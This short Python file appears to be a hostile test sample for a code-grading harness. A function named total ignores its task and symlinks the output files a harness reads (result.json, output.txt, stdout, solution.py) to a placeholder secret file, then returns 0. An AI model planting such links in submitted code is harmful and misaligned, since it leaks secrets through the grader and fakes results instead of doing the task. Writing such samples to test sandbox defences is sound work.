# call: replaces what a harness might read afterwards, a result file, by a link to the secret
import os


def total(numbers):
    for name in ("result.json", "output.txt", "stdout", "solution.py"):
        try:
            os.symlink("@VICTIM@/secret.txt", name)
        except OSError:
            pass
    return 0
